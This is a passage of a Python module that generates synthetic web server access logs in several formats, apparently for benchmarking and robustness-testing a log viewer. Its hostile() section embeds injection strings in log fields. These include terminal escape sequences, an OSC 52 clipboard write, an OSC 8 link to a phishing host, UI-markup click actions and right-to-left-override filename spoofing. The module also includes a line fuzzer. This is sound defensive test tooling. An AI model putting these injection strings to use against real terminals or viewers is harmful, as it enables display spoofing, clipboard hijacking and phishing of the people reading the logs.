    method, uri, status = rng.choice(PROBES) if which is None else PROBES[which % len(PROBES)]
    if uri == "/wp-login.php" and rng.random() < 0.1:
        status = 200  # some hosts run WordPress; the probe flag must not depend on a 404 here
    r = _page_req(rng, uri, agent, "-", host, 200)
    r.method, r.status, r.proto = method, status, "HTTP/1.1"
    r.size = _ERROR_SIZES.get(status, 0) if status != 200 else rng.randint(2_000, 30_000)
    r.urt = "-" if status in (400, 404, 403, 405) else r.urt
    return r


def _garbage_req(rng: random.Random, host: str, which: int | None = None) -> Req:
    raw = (
        rng.choice(GARBAGE_REQUESTS)
        if which is None
        else GARBAGE_REQUESTS[which % len(GARBAGE_REQUESTS)]
    )
    return Req(
        None,
        raw,
        400,
        0 if raw == "-" else 157,
        "-",
        "-",
        "",
        0.0 if raw == "-" else round(rng.random() * 0.3, 3),
        "-",
        host,
    )


def _probe_burst(
    rng: random.Random, site: _Site, burst: bool, cursor: list[int]
) -> list[tuple[float, Req]]:
    """Scanner requests; single probes walk PROBES in turn (`cursor`), so even a small pool has all."""
    agent = rng.choice(SCANNER_AGENTS)
    n = rng.randint(8, 60) if burst else rng.choice((1, 1, 2, 3))
    out: list[tuple[float, Req]] = []
    t = 0.0
    for _ in range(n):
        if rng.random() < 0.06:
            r = _garbage_req(rng, site.host)
        elif burst:
            r = _probe_req(rng, agent, site.host)
        else:
            r = _probe_req(rng, agent, site.host, cursor[0])
            cursor[0] += 1
        out.append((t, r))
        t += rng.uniform(0.01, 0.6 if burst else 4.0)
    return out


# --------------------------------------------------------------------------------------------------
# Addresses.


def _rand_ipv4(rng: random.Random) -> str:
    while True:
        a = rng.randint(1, 223)
        if a not in (10, 100, 127, 169, 172, 192):
            return f"{a}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _rand_ipv6(rng: random.Random) -> str:
    head = rng.choice(("2a02:", "2a01:", "2001:4860:", "2600:1700:", "2a00:23c6:", "2403:5800:"))
    groups = [f"{rng.getrandbits(16):x}" for _ in range(3 if head.count(":") == 1 else 2)]
    tail = f"{rng.getrandbits(16):x}:{rng.getrandbits(16):x}"
    return head + ":".join(groups) + "::" + tail


def _net_addr(rng: random.Random, net: str) -> str:
    if ":" in net:
        return f"{net}{rng.randint(1, 0xFFFF):x}"
    return f"{net}{rng.randint(1, 254)}"


# --------------------------------------------------------------------------------------------------
# Rendering: each format turns a Req into fragments once, and glues fragments, address and time per
# line. Escaping follows the servers: nginx writes `"`, `\` and bytes outside printable ASCII as
# \xHH; Apache writes \" and \\ and \xhh.

_UNPRINTABLE = re.compile(rb"[^\x20\x21\x23-\x5b\x5d-\x7e]")


@functools.lru_cache(maxsize=4096)
def _esc_nginx(s: str) -> bytes:
    return _UNPRINTABLE.sub(
        lambda m: b"\\x%02X" % m.group()[0], s.encode("utf-8", "surrogateescape")
    )


def _apache_byte(m: re.Match[bytes]) -> bytes:
    c = m.group()[0]
    return b'\\"' if c == 0x22 else b"\\\\" if c == 0x5C else b"\\x%02x" % c


@functools.lru_cache(maxsize=4096)
def _esc_apache(s: str) -> bytes:
    return _UNPRINTABLE.sub(_apache_byte, s.encode("utf-8", "surrogateescape"))


def _request_line(r: Req) -> str:
    return r.uri if r.method is None else f"{r.method} {r.uri} {r.proto}"


_MONTHS = (
    b"Jan",
    b"Feb",
    b"Mar",
    b"Apr",
    b"May",
    b"Jun",
    b"Jul",
    b"Aug",
    b"Sep",
    b"Oct",
    b"Nov",
    b"Dec",
)


def _clf_time(sec: int) -> bytes:
    t = time.gmtime(sec)
    return b"%02d/%s/%04d:%02d:%02d:%02d +0000" % (
        t.tm_mday,
        _MONTHS[t.tm_mon - 1],
        t.tm_year,
        t.tm_hour,
        t.tm_min,
        t.tm_sec,
    )


def _iso_time(sec: int) -> bytes:
    t = time.gmtime(sec)
    return b"%04d-%02d-%02dT%02d:%02d:%02d" % (
        t.tm_year,
        t.tm_mon,
        t.tm_mday,
        t.tm_hour,
        t.tm_min,
        t.tm_sec,
    )


class _SecondCache:
    """Seconds → formatted bytes; lines arrive nearly in order so a small dict hits almost "
    "always."""

    __slots__ = ("cache", "fn")

    def __init__(self, fn: Callable[[int], bytes]) -> None:
        self.fn = fn
        self.cache: dict[int, bytes] = {}

    def __call__(self, sec: int) -> bytes:
        v = self.cache.get(sec)
        if v is None:
            if len(self.cache) > 512:
                self.cache.clear()
            v = self.cache[sec] = self.fn(sec)
        return v


@functools.lru_cache(maxsize=8192)
def _jdump(s: str) -> bytes:
    return json.dumps(s, ensure_ascii=False).encode("utf-8", "surrogateescape")


def _go_json(s: str) -> bytes:
    # Go's encoding/json (Traefik) escapes <, > and & as \u003c, \u003e, \u0026.
    return _jdump(s).replace(b"<", b"\\u003c").replace(b">", b"\\u003e").replace(b"&", b"\\u0026")


Frag = tuple[bytes, ...]
Addr = bytes | tuple[bytes, bytes]


class _Renderer:
    """Per-format rendering. `frag(req, port)` runs at template build time; `line()` per line."""

    json_only_http = False  # JSON servers never log non-HTTP request lines

    def addr(self, ip: str) -> Addr:
        return ip.encode()

    def frag(self, r: Req, port: int) -> Frag:
        raise NotImplementedError

    def make_line(self) -> Callable[[Frag, Addr, float], bytes]:
        """The per-line glue: (fragments, address, epoch seconds) → one line. A closure, for "
        "speed."""
        raise NotImplementedError


class _CLF(_Renderer):
    def __init__(self, fmt: str, apache: bool) -> None:
        self.fmt = fmt
        self.esc = _esc_apache if apache or fmt == "vhost_combined" else _esc_nginx

    def addr(self, ip: str) -> Addr:
        return ip.encode() + b" - - ["

    def frag(self, r: Req, port: int) -> Frag:
        esc = self.esc
        # Apache's %b writes "-" for an empty body; nginx's $body_bytes_sent writes 0.
        size = b"-" if r.size == 0 and self.esc is _esc_apache else b"%d" % r.size
        # A garbage request line is kept as the server already escaped it.
        req = r.uri.encode() if r.method is None else esc(_request_line(r))
        mid = b'] "' + req + b'" %d ' % r.status + size
        if self.fmt != "common":
            mid += b' "' + esc(r.referrer) + b'" "' + esc(r.agent) + b'"'
        if self.fmt == "combined_rt":
            mid += b" %.3f %s" % (r.rt, r.urt.encode())
        prefix = b""
        if self.fmt == "vhost_combined":
            prefix = r.host.encode() + (b":443 " if r.proto == "HTTP/2.0" or r.method else b":80 ")
        return (prefix, mid + b"\n")

    def make_line(self) -> Callable[[Frag, Addr, float], bytes]:
        cache: dict[int, bytes] = {}
        get = cache.get

        def line(f: Frag, addr: Addr, t: float) -> bytes:
            sec = int(t)
            ts = get(sec)
            if ts is None:
                if len(cache) > 512:
                    cache.clear()
                ts = cache[sec] = _clf_time(sec)
            return f[0] + addr + ts + f[1]  # type: ignore[operator]

        return line


class _Caddy(_Renderer):
    json_only_http = True

    def frag(self, r: Req, port: int) -> Frag:
        path, _, query = r.uri.partition("?")
        headers = [b'"User-Agent":[' + _jdump(r.agent) + b"]"] if r.agent != "-" else []
        headers.append(
            b'"Accept":["*/*"]'
            if r.method != "GET" or "." in path
            else b'"Accept":["text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"]'
        )
        if r.referrer != "-":
            headers.append(b'"Referer":[' + _jdump(r.referrer) + b"]")
        h2 = r.proto == "HTTP/2.0"
        tls = (
            (
                b',"tls":{"resumed":false,"version":772,"cipher_suite":4865,"proto":"h2","server_name":'
                + _jdump(r.host)
                + b"}"
            )
            if h2
            else b""
        )
        ctype = b"text/html; charset=utf-8"
        if path.endswith(".css"):
            ctype = b"text/css; charset=utf-8"
        elif path.endswith(".js"):
            ctype = b"text/javascript; charset=utf-8"
        elif path.endswith((".png", ".jpg", ".webp", ".svg", ".ico", ".woff2")):
            ctype = b"application/octet-stream"
        a = b'{"level":"%s","ts":' % (b"error" if r.status >= 500 else b"info")
        b = b',"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"'
        c = b'","remote_port":"%d","client_ip":"' % port
        d = (
            b'","proto":'
            + _jdump(r.proto)
            + b',"method":'
            + _jdump(r.method or "GET")
            + b',"host":'
            + _jdump(r.host)
            + b',"uri":'
            + _jdump(r.uri.replace(" ", "%20"))
            + b',"headers":{'
            + b",".join(headers)
            + b"}"
            + tls
            + b'},"bytes_read":0,"user_id":"",'
            + b'"duration":%.9f,"size":%d,"status":%d,' % (max(r.rt, 0.00002), r.size, r.status)
            + b'"resp_headers":{"Server":["Caddy"],"Content-Type":["'
            + ctype
            + b'"]}}\n'
        )
        del query
        return (a, b, c, d)

    def make_line(self) -> Callable[[Frag, Addr, float], bytes]:
        def line(f: Frag, addr: Addr, t: float) -> bytes:
            return b"".join((f[0], b"%.7f" % t, f[1], addr, f[2], addr, f[3]))  # type: ignore[arg-type]

        return line


class _Traefik(_Renderer):
    json_only_http = True

    def addr(self, ip: str) -> Addr:
        return (f"[{ip}]" if ":" in ip else ip).encode(), ip.encode()

    def frag(self, r: Req, port: int) -> Frag:
        dur = max(int(r.rt * 1e9), 120_000)
        origin = max(dur - 40_000, 0)
        path = r.uri.replace(" ", "%20")  # Go servers refuse a raw space
        a = b'{"ClientAddr":"'
        b = b':%d","ClientHost":"' % port
        c = (
            b'","ClientPort":"%d","ClientUsername":"-","DownstreamContentSize":%d,"DownstreamStatus":%d,'
            b'"Duration":%d,"OriginContentSize":%d,"OriginDuration":%d,"OriginStatus":%d,"Overhead":%d,'
            % (port, r.size, r.status, dur, r.size, origin, r.status, dur - origin)
            + b'"RequestAddr":'
            + _go_json(r.host)
            + b',"RequestContentSize":0,"RequestHost":'
            + _go_json(r.host)
            + b',"RequestMethod":'
            + _go_json(r.method or "GET")
            + b',"RequestPath":'
            + _go_json(path)
            + b',"RequestPort":"-","RequestProtocol":'
            + _go_json(r.proto)
            + b',"RequestScheme":"https","RetryAttempts":0,'
            + b'"RouterName":"web@docker","ServiceAddr":"172.18.0.3:8080",'
            + b'"ServiceName":"web@docker",'
            + b'"ServiceURL":"http://172.18.0.3:8080","StartLocal":"'
        )
        d = b'","StartUTC":"'
        e = (
            b'","entryPointName":"websecure","level":"info","msg":"",'
            + (b'"request_Referer":' + _go_json(r.referrer) + b"," if r.referrer != "-" else b"")
            + (b'"request_User-Agent":' + _go_json(r.agent) + b"," if r.agent != "-" else b"")
            + b'"time":"'
        )
        return (a, b, c, d, e)

    def make_line(self) -> Callable[[Frag, Addr, float], bytes]:
        iso_of = _SecondCache(_iso_time)

        def line(f: Frag, addr: Addr, t: float) -> bytes:
            cadr, host = addr
            sec = int(t)
            iso = iso_of(sec)
            start = iso + b".%09dZ" % int((t - sec) * 1e9)
            return b"".join((f[0], cadr, f[1], host, f[2], start, f[3], start, f[4], iso, b'Z"}\n'))  # type: ignore[arg-type]

        return line


class _NginxJSON(_Renderer):
    def frag(self, r: Req, port: int) -> Frag:
        a = b'{"remote_addr":"'
        b = b'","time_iso8601":"'
        ref = "" if r.referrer == "-" else r.referrer
        agent = "" if r.agent == "-" else r.agent
        c = (
            b'","host":'
            + _jdump(r.host)
            + b',"request":'
            + _jdump(_request_line(r))
            + b',"status":%d,"body_bytes_sent":%d,"request_time":%.3f,' % (r.status, r.size, r.rt)
            + b'"upstream_response_time":'
            + _jdump("" if r.urt == "-" else r.urt)
            + b',"http_referer":'
            + _jdump(ref)
            + b',"http_user_agent":'
            + _jdump(agent)
            + b"}\n"
        )
        return (a, b, c)

    def make_line(self) -> Callable[[Frag, Addr, float], bytes]:
        iso_of = _SecondCache(lambda s: _iso_time(s) + b"+00:00")

        def line(f: Frag, addr: Addr, t: float) -> bytes:
            return b"".join((f[0], addr, f[1], iso_of(int(t)), f[2]))  # type: ignore[arg-type]

        return line


def _renderer(fmt: str, apache: bool = False) -> _Renderer:
    if fmt in ("combined", "combined_rt", "common", "vhost_combined"):
        return _CLF(fmt, apache)
    if fmt == "caddy_json":
        return _Caddy()
    if fmt == "traefik_json":
        return _Traefik()
    if fmt == "nginx_json":
        return _NginxJSON()
    raise ValueError(f"unknown format {fmt!r}: choose one of {', '.join(FORMATS)}")


# --------------------------------------------------------------------------------------------------
# The generator.

# (template pool, weight): relative frequency of visits of each kind.
_MIX_HUMAN = 16.0
_MIX_BOT = 80.0
_MIX_PROBE = 5.0
_MIX_GARBAGE = 1.0


class _Pools:
    def __init__(
        self, rng: random.Random, rend: _Renderer, host: str, distinct_paths: int | None, scale: int
    ) -> None:
        site = _Site(rng, host, distinct_paths, 15 * scale)
        self.human_ips = tuple(
            rend.addr(_rand_ipv6(rng) if rng.random() < 0.12 else _rand_ipv4(rng))
            for _ in range(200 * scale)
        )
        self.scanner_ips = tuple(
            rend.addr(_net_addr(rng, rng.choice(SCANNER_NETS))) for _ in range(4 * scale)
        )

        def build(visit: list[tuple[float, Req]]) -> tuple[tuple[float, Frag], ...]:
            port = rng.randint(1024, 65535)
            return tuple(
                (off, rend.frag(r, port))
                for off, r in visit
                if not (rend.json_only_http and r.method is None)
            )

        self.human = [build(_human_session(rng, site)) for _ in range(30 * scale)]
        self.errors = [build(_human_session(rng, site, errors=True)) for _ in range(5 * scale)]
        bot_w = [b.weight for b in BOTS]
        self.bots: list[tuple[tuple[Addr, ...], tuple[tuple[float, Frag], ...]]] = []
        ip_cache: dict[str, tuple[Addr, ...]] = {}
        for _ in range(30 * scale):
            bot = rng.choices(BOTS, bot_w)[0]
            if bot.name not in ip_cache:
                ip_cache[bot.name] = tuple(
                    rend.addr(_net_addr(rng, rng.choice(bot.nets))) for _ in range(6)
                )
            self.bots.append((ip_cache[bot.name], build(_bot_visit(rng, site, bot))))
        cursor = [0]
        # JSON servers never log a handshake, so a visit may render to nothing: drop those.
        self.probes = [
            v
            for v in (build(_probe_burst(rng, site, False, cursor)) for _ in range(4 * scale))
            if v
        ]
        self.bursts = [
            v for v in (build(_probe_burst(rng, site, True, cursor)) for _ in range(scale)) if v
        ]
        garbage = [[(0.0, _garbage_req(rng, host, i))] for i in range(scale)]
        self.garbage = [g for g in (build(v) for v in garbage) if g] or self.probes
        # Mean lines per visit, weighted by the mix, turns a line rate into a visit rate.
        self.mean_lines = (
            _MIX_HUMAN * _mean_len(self.human)
            + _MIX_BOT * _mean_len([b for _, b in self.bots])
            + _MIX_PROBE * _mean_len(self.probes)
            + _MIX_GARBAGE * _mean_len(self.garbage)
        ) / (_MIX_HUMAN + _MIX_BOT + _MIX_PROBE + _MIX_GARBAGE)


def _mean_len(pool: Sequence[Sequence[object]]) -> float:
    return sum(len(v) for v in pool) / max(len(pool), 1)


def generate(
    n_lines: int,
    *,
    fmt: str = "combined",
    seed: int = 1,
    start: float = DEFAULT_START,
    rate: float = 5.0,
    spikes: Sequence[Spike] = (),
    distinct_paths: int | None = None,
    mode: str = "realistic",
    host: str = DEFAULT_HOST,
    apache: bool = False,
) -> Iterator[bytes]:
    """Yield `n_lines` log lines (bytes ending in b"\\n"), the same bytes for the same arguments.

    `rate` is the average number of requests per second; `start` the epoch second of the first.
    `distinct_paths` draws most page views from that many distinct paths (for top-k benchmarks).
    `mode="cardinality"` makes every line's path, client, agent and referrer new.
    `apache=True` escapes the combined formats the way Apache does (\\" rather than \\x22).
    """
    if fmt not in FORMATS:
        raise ValueError(f"unknown format {fmt!r}: choose one of {', '.join(FORMATS)}")
    if rate <= 0:
        raise ValueError("rate must be positive")
    if mode == "cardinality":
        return _cardinality(n_lines, fmt, seed, start, rate, host, apache)
    if mode != "realistic":
        raise ValueError(f"unknown mode {mode!r}: choose one of {', '.join(MODES)}")
    return _realistic(n_lines, fmt, seed, start, rate, tuple(spikes), distinct_paths, host, apache)


def _realistic(
    n: int,
    fmt: str,
    seed: int,
    start: float,
    rate: float,
    spikes: tuple[Spike, ...],
    distinct_paths: int | None,
    host: str,
    apache: bool,
) -> Iterator[bytes]:
    rng = random.Random(seed)
    rend = _renderer(fmt, apache)
    # Small outputs build fast; big ones get bigger pools so visits repeat less.
    scale = min(120, max(8, n // 12_500))  # 1M lines: ~1k agents, ~15k clients, ~1k paths
    pools = _Pools(rng, rend, host, distinct_paths, scale)
    lines = itertools.islice(_stream(rng, pools, rend.make_line(), start, rate, spikes), n)
    if distinct_paths is None:
        return lines
    return _fill_slots(lines, random.Random(seed + 1), distinct_paths)


def _fill_slots(lines: Iterator[bytes], rng: random.Random, k: int) -> Iterator[bytes]:
    r = rng.random
    for line in lines:
        if _PATH_SLOT_B in line:
            line = line.replace(_PATH_SLOT_B, _slot_path(int(r() * k)))
        yield line


def _stream(
    rng: random.Random,
    pools: _Pools,
    line: Callable[[Frag, Addr, float], bytes],
    start: float,
    rate: float,
    spikes: tuple[Spike, ...],
) -> Iterator[bytes]:
    """Endless lines: visits start as a Poisson process; a heap interleaves their requests in "
    "time."""
    r = rng.random
    expo = rng.expovariate
    visit_rate = rate / pools.mean_lines
    human, bots, probes, garbage = pools.human, pools.bots, pools.probes, pools.garbage
    human_ips, scanner_ips = pools.human_ips, pools.scanner_ips
    n_human, n_bots, n_probes, n_garbage = len(human), len(bots), len(probes), len(garbage)
    n_hip, n_sip = len(human_ips), len(scanner_ips)
    w_total = _MIX_HUMAN + _MIX_BOT + _MIX_PROBE + _MIX_GARBAGE
    c_human = _MIX_HUMAN / w_total
    c_bot = c_human + _MIX_BOT / w_total
    c_probe = c_bot + _MIX_PROBE / w_total
    windows = [(start + s.at, start + s.at + s.duration, s) for s in spikes]
    heap: list[tuple[float, int, Frag, Addr]] = []
    push, pop = heapq.heappush, heapq.heappop
    seq = 0
    t_next = start
    visit: tuple[tuple[float, Frag], ...] | None
    while True:
        # Emit everything scheduled before the next visit starts.
        while heap and heap[0][0] <= t_next:
            t, _, frag, addr = pop(heap)
            yield line(frag, addr, t)
        # Start the next visit.
        visit = None
        x = r()
        gap = 1.0
        for w0, w1, sp in windows:
            if w0 <= t_next < w1:
                gap = 1.0 / sp.intensity
                if x >= sp.share:
                    break
                if sp.kind == "errors":
                    visit = pools.errors[int(r() * len(pools.errors))]
                    addr = human_ips[int(r() * n_hip)]
                else:
                    visit = pools.bursts[int(r() * len(pools.bursts))]
                    addr = scanner_ips[int(r() * n_sip)]
                break
        if visit is None:
            if x < c_human:
                visit, addr = human[int(r() * n_human)], human_ips[int(r() * n_hip)]
            elif x < c_bot:
                ips, visit = bots[int(r() * n_bots)]
                addr = ips[int(r() * len(ips))]
            elif x < c_probe:
                visit, addr = probes[int(r() * n_probes)], scanner_ips[int(r() * n_sip)]
            else:
                visit, addr = garbage[int(r() * n_garbage)], scanner_ips[int(r() * n_sip)]
        # The first request starts now, before anything still queued: no need to queue it.
        yield line(visit[0][1], addr, t_next)
        for off, frag in visit[1:]:
            push(heap, (t_next + off, seq, frag, addr))
            seq += 1
        t_next += expo(visit_rate) * gap


def _cardinality(
    n: int, fmt: str, seed: int, start: float, rate: float, host: str, apache: bool
) -> Iterator[bytes]:
    """Every line new: path, client, agent and referrer never repeat (bounded-memory stress)."""
    rng = random.Random(seed)
    rend = _renderer(fmt, apache)
    statuses = (200, 200, 200, 200, 304, 301, 404, 404, 500, 503)
    step = 1.0 / rate
    line = rend.make_line()
    salt = rng.getrandbits(32)
    for i in range(n):
        k = (i * 2654435761 + salt) & 0xFFFFFFFF
        ip = (
            f"{1 + (k >> 24) % 223}.{(k >> 16) & 255}.{(k >> 8) & 255}.{k & 255}"
            if i % 8
            else f"2001:db8:{i >> 16:x}:{i & 0xFFFF:x}::{k & 0xFFFF:x}"
        )
        req = Req(
            "GET",
            f"/c/{i:x}/{k:08x}?v={i}",
            statuses[k % 10],
            k % 50_000,
            f"https://ref{i}.example.net/{k:x}",
            f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{100 + i % 31}.0.{i}.{k % 1000} Safari/537.36",
            "HTTP/1.1",
            (k % 997) / 1000.0,
            f"{(k % 991) / 1000.0:.3f}",
            host,
        )
        yield line(rend.frag(req, 1024 + k % 60000), rend.addr(ip), start + i * step)


def write(path: str | Path, n_lines: int, **kwargs: Any) -> int:
    """Write `generate(n_lines, **kwargs)` to `path`; returns the number of bytes written."""
    with open(path, "wb", buffering=1 << 20) as f:
        f.writelines(generate(n_lines, **kwargs))
        return f.tell()


# --------------------------------------------------------------------------------------------------
# Hostile input: everything a stranger can put in a log line to attack the program reading it.

ESC = "\x1b"
HOSTILE_FEATURES: dict[str, bytes] = {
    "markup_bold": b"[bold]",
    "markup_close": b"[/foo]",
    "markup_click": b"[@click=app.quit]",
    "osc_title": b"\x1b]0;",
    "bel": b"\x07",
    "csi_clear": b"\x1b[2J",
    "c1_csi": b"\xc2\x9b",
    "rlo": "\u202e".encode(),
    "nul": b"\x00",
    "invalid_utf8": b"\xff\xfe",
    "tls_raw": b"\x16\x03\x01",
    "long_line": b"A" * 1000,
}

_HOSTILE_IPS: tuple[bytes, ...] = (b"203.0.113.7", b"2001:db8::bad", b"198.51.100.23")
_HOSTILE_PATHS: tuple[bytes, ...] = (
    b"/[bold]pwned[/bold]",
    b"/search?q=[/foo]",
    b"/[@click=app.quit]",
    b"/[link=https://evil.example/]x[/link]",
    b"/a\x1b[2J\x1b[Hb",
    b"/\x1b]0;owned\x07",
    b"/\x1b]52;c;aGVsbG8=\x07clip",
    b"/file\xe2\x80\xaegpj.exe",
    b"/c1\xc2\x9b31mred\xc2\x85",
    b"/raw\x9b2J",
    b"/nul\x00byte",
    b"/bad\xff\xfeutf8\xc3\x28",
    b"/latin1-caf\xe9",
    b"/x\\x1B[2J",
    b"/%1b%5d0%3btitle%07",
)
_HOSTILE_AGENTS: tuple[bytes, ...] = (
    b"Mozilla/5.0 [bold red]admin[/bold red]",
    b"[@click=app.quit] curl/8.0",
    b"Mozilla/5.0 \x1b]0;pwned\x07 (X11)",
    b"Mozilla/5.0 \x1b[2J\x1b[31mRED",
    b"Mozilla/5.0 \xe2\x80\xaeevil\xe2\x80\xac",
    b"Mozilla/5.0 \xc2\x9b2J C1",
    b"ua\x00with\x00nuls",
    b"\xff\xfe\xfd not utf8",
    b"[/]",
)
_HOSTILE_REFERRERS: tuple[bytes, ...] = (
    b"https://[bold]evil[/bold].example/",
    b"https://evil.example/[@click=app.quit]",
    b"https://evil.example/\x1b]8;;https://phish.example/\x07link\x1b]8;;\x07",
    b"https://evil.example/\xe2\x80\xae/moc.elgoog",
    b"-",
)
_HOSTILE_REQUESTS: tuple[bytes, ...] = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\xa4\x8e\x00\x00",
    b"\x00\x00\x00\x00\x00\x00",
    b"GET /\x1b[2J HTTP/1.1",
    b"GET /[@click=app.quit] HTTP/1.1",
    b'GET /"quoted" HTTP/1.1',
    b"\x80\x81\x82\xff",
)


def hostile(
    n_lines: int = 1500,
    *,
    seed: int = 1,
    start: float = DEFAULT_START,
    rate: float = 1.0,
    long_line_bytes: int = 200_000,
) -> Iterator[bytes]:
    """Combined-format lines carrying every hostile feature, mixed with ordinary traffic.

    Every fourth line is hostile; the rest are ordinary, so format detection still sees a combined
    log. Hostile bytes are written raw (not \\x-escaped as nginx would), because not every server or
    custom format escapes them. The middle line is about `long_line_bytes` long. With n_lines >= 200
    every feature in HOSTILE_FEATURES appears: the first hostile lines walk every value in turn.
    """
    rng = random.Random(seed)
    walk = 2 * max(len(_HOSTILE_PATHS), len(_HOSTILE_AGENTS), len(_HOSTILE_REQUESTS))
    k = 0
    for i, base in enumerate(generate(n_lines, fmt="combined", seed=seed, start=start, rate=rate)):
        stamp = base[base.index(b"[") + 1 : base.index(b"]")]
        if i == n_lines // 2:
            path = b"/" + b"A" * long_line_bytes
            yield b'198.51.100.66 - - [%s] "GET %s HTTP/1.1" 414 0 "-" "-"\n' % (stamp, path)
            continue
        if i % 4 != 1:
            yield base
            continue
        if k < walk:
            j = k // 2
            ip = _HOSTILE_IPS[j % len(_HOSTILE_IPS)]
            ref = _HOSTILE_REFERRERS[j % len(_HOSTILE_REFERRERS)]
            agent = _HOSTILE_AGENTS[j % len(_HOSTILE_AGENTS)]
            if k % 2:
                req = _HOSTILE_REQUESTS[j % len(_HOSTILE_REQUESTS)]
            else:
                req = b"GET " + _HOSTILE_PATHS[j % len(_HOSTILE_PATHS)] + b" HTTP/1.1"
        else:
            ip, ref, agent = (
                rng.choice(x) for x in (_HOSTILE_IPS, _HOSTILE_REFERRERS, _HOSTILE_AGENTS)
            )
            if rng.random() < 0.3:
                req = rng.choice(_HOSTILE_REQUESTS)
            else:
                req = b"GET " + rng.choice(_HOSTILE_PATHS) + b" HTTP/1.1"
        k += 1
        status = (200, 404, 400, 403)[k % 4]
        yield b'%s - - [%s] "%s" %d %d "%s" "%s"\n' % (
            ip,
            stamp,
            req,
            status,
            rng.randint(0, 9999),
            ref,
            agent,
        )


# --------------------------------------------------------------------------------------------------
# Fuzzing.

_MUTATIONS = (
    "truncate",
    "random_bytes",
    "nul",
    "long_field",
    "break_quote",
    "latin1",
    "drop_field",
    "duplicate",
    "control",
    "empty",
)


def mutate(line: bytes, rng: random.Random) -> bytes:
    """One random, plausible way to damage a log line (deterministic for a seeded `rng`).

    The result keeps no trailing newline if it had none; the caller decides framing. A mutation
    never introduces a b"\\n" inside the line.
    """
    nl = line.endswith(b"\n")
    body = line[:-1] if nl else line
    kind = rng.choice(_MUTATIONS)
    if not body:
        body = b"-"
    pos = rng.randrange(len(body))
    if kind == "truncate":
        body = body[:pos]
    elif kind == "random_bytes":
        junk = bytes(
            rng.choice([c for c in range(256) if c != 0x0A]) for _ in range(rng.randint(1, 24))
        )
        body = body[:pos] + junk + body[pos:]
    elif kind == "nul":
        body = body[:pos] + b"\x00" * rng.randint(1, 8) + body[pos:]
    elif kind == "long_field":
        body = (
            body[:pos]
            + rng.choice((b"A", b"%2e", b"[", b"\\x")) * rng.randint(1_000, 80_000)
            + body[pos:]
        )
    elif kind == "break_quote":
        q = [i for i, c in enumerate(body) if c == 0x22]
        body = body[: rng.choice(q)] + body[rng.choice(q) + 1 :] if q else body + b'"'
        body = body.replace(b'" "', b'"', 1) if rng.random() < 0.3 else body
    elif kind == "latin1":
        body = (
            body[:pos]
            + rng.choice(("café", "naïve", "Ærø", "日本")).encode(
                rng.choice(("latin-1", "cp1252", "utf-16-le")) if rng.random() < 0.7 else "utf-8",
                "replace",
            )
            + body[pos:]
        )
    elif kind == "drop_field":
        parts = body.split(b" ")
        if len(parts) > 1:
            del parts[rng.randrange(len(parts))]
        body = b" ".join(parts)
    elif kind == "duplicate":
        body = body + b" " + body[pos:]
    elif kind == "control":
        body = (
            body[:pos]
            + bytes((rng.choice((0x1B, 0x07, 0x08, 0x0D, 0x7F, 0x9B, 0x85)),))
            + body[pos:]
        )
    else:  # "empty"
        body = rng.choice((b"", b" ", b"\t", b"\r"))
    return body + b"\n" if nl else body


def mutate_lines(lines: Iterable[bytes], *, seed: int = 1, rate: float = 0.1) -> Iterator[bytes]:
    """Pass lines through, damaging a `rate` fraction of them with `mutate` (deterministic by "
    "seed)."""
    rng = random.Random(seed)
    for line in lines:
        yield mutate(line, rng) if rng.random() < rate else line
